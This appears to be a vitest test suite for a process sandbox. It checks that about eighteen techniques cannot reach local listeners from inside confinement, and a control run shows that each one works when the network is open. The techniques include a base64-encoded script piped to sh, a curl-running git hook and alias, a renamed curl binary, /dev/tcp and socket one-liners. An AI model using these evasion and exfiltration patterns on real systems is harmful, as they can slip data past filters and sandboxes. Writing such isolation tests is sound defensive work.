import { chmodSync, chownSync, copyFileSync, mkdirSync, statSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Confinement, describeConfined } from '../fixtures/confinement.ts'
import { type Listeners, openListeners } from '../fixtures/listeners.ts'

/** A way to reach a listener: the command, after its files were put into the root. */
type Attack = (root: string, listeners: Listeners, node: string) => readonly [string, ...string[]]

const url = ({ port }: Listeners, name: string): string => `http://127.0.0.1:${port}/${name}`
const curl = (target: string): string => `curl -s -m 100 ${target}`

/** Each sends its own name, so that what arrives says who it was. */
const attacks: Readonly<Record<string, Attack>> = {
  curl: (_, at) => ['curl', '-s', '-m', '100', url(at, 'curl')],
  'renamed curl': (root, at) => {
    copyFileSync('/usr/bin/curl', join(root, 'report'))
    return ['./report', '-s', '-m', '100', url(at, 'renamed curl'.replace(' ', '%20'))]
  },
  python: (_, { port }) => [
    '/usr/bin/python3',
    '-c',
    `import socket; socket.create_connection(("127.0.0.1", ${port}), 100).send(b"python")`,
  ],
  perl: (_, { port }) => [
    'perl',
    '-MIO::Socket::INET',
    '-e',
    `print {IO::Socket::INET->new("127.0.0.1:${port}") or die} "perl"`,
  ],
  node: (_, { port }, node) => [
    node,
    '-e',
    `require("net").connect(${port}, "127.0.0.1").end("node")`,
  ],
  '/dev/tcp': (_, { port }) => ['bash', '-c', `printf /dev/tcp > /dev/tcp/127.0.0.1/${port}`],
  env: (_, at) => ['env', 'curl', '-s', '-m', '100', url(at, 'env')],
  xargs: (_, at) => ['sh', '-c', `echo ${url(at, 'xargs')} | xargs curl -s -m 100`],
  'script file': (root, at) => {
    writeFileSync(join(root, 'build.sh'), `${curl(url(at, 'script%20file'))}\n`)
    return ['sh', 'build.sh']
  },
  'encoded script': (_, at) => {
    const encoded = Buffer.from(curl(url(at, 'encoded%20script'))).toString('base64')
    return ['sh', '-c', `echo ${encoded} | base64 -d | sh`]
  },
  'git hook': (root, at) => {
    mkdirSync(join(root, 'hooks'))
    writeFileSync(join(root, 'hooks/pre-commit'), `#!/bin/sh\n${curl(url(at, 'git%20hook'))}\n`)
    chmodSync(join(root, 'hooks/pre-commit'), 0o755)
    const identity = '-c user.name=a -c user.email=a@example.com -c core.hooksPath=hooks'
    return ['sh', '-c', `git init -q . && git ${identity} commit -q --allow-empty -m first`]
  },
  'git alias': (_, at) => ['git', '-c', `alias.st=!${curl(url(at, 'git%20alias'))}`, 'st'],
  'git ls-remote': (_, at) => ['git', 'ls-remote', url(at, 'git%20ls-remote')],
  'UDP by python': (_, { udpPort }) => [
    '/usr/bin/python3',
    '-c',
    `import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"UDP by python", ("127.0.0.1", ${udpPort}))`,
  ],
  '/dev/udp': (_, { udpPort }) => ['bash', '-c', `printf /dev/udp > /dev/udp/127.0.0.1/${udpPort}`],
  'unix socket by python': (_, { socketPath }) => [
    '/usr/bin/python3',
    '-c',
    `import socket; s = socket.socket(socket.AF_UNIX); s.connect("${socketPath}"); s.send(b"unix socket by python")`,
  ],
  'unix socket by curl': (_, { socketPath }) => [
    'sh',
    '-c',
    `${curl('http://localhost/unix%20socket%20by%20curl')} --unix-socket ${socketPath}`,
  ],
  'abstract socket': (_, { abstractName }) => [
    '/usr/bin/python3',
    '-c',
    `import socket; s = socket.socket(socket.AF_UNIX); s.connect("\\0${abstractName}"); s.send(b"abstract socket")`,
  ],
}

describeConfined('the network from inside', (confinement) => {
  let listeners: Listeners
  beforeAll(async () => {
    listeners = await openListeners(openDirectory(confinement))
  })
  afterAll(() => listeners.close())

  test.each(Object.entries(attacks))('is out of reach of %s', async (_, attack) => {
    const root = confinement.directory()
    const argv = attack(root, listeners, confinement.node)
    giveTo(confinement, root)
    await confinement.run(root, argv)
    expect(await listeners.received()).toEqual([])
  })

  // The control: each attack works where the network was allowed, so that only isolation can have stopped it above.
  test.each(Object.entries(attacks))(
    "is reached by %s with network: 'host'",
    async (name, attack) => {
      const root = confinement.directory()
      const argv = attack(root, listeners, confinement.node)
      giveTo(confinement, root)
      const policy = { network: 'host', read: [dirname(listeners.socketPath)] } as const
      // Under Landlock an open network costs the unix sockets, and the report says so.
      const isMissing = confinement.backend === 'landlock' && / socket/.test(` ${name}`)
      if (isMissing) {
        const missing = await confinement.reportedLimitations({ network: 'host' })
        expect(missing).toContain('NO_UNIX_SOCKETS')
        await confinement.runFreely(root, argv)
      } else {
        await confinement.run(root, argv, { policy })
      }
      const arrived = (await listeners.received()).map((line) => decodeURIComponent(line))
      expect(arrived.join('\n')).toContain(name)
    },
  )
})

/** A directory that everybody may enter, outside every root. */
function openDirectory(confinement: Confinement): string {
  const directory = confinement.directory()
  chmodSync(directory, 0o755)
  return directory
}

/** The files that an attack put down belong to the user who runs it. */
function giveTo(confinement: Confinement, root: string): void {
  const { uid, gid } = statSync(root)
  if (confinement.user === 'root') return
  for (const name of ['report', 'build.sh', 'hooks', 'hooks/pre-commit']) {
    try {
      chownSync(join(root, name), uid, gid)
    } catch {
      // Only some attacks have files.
    }
  }
}
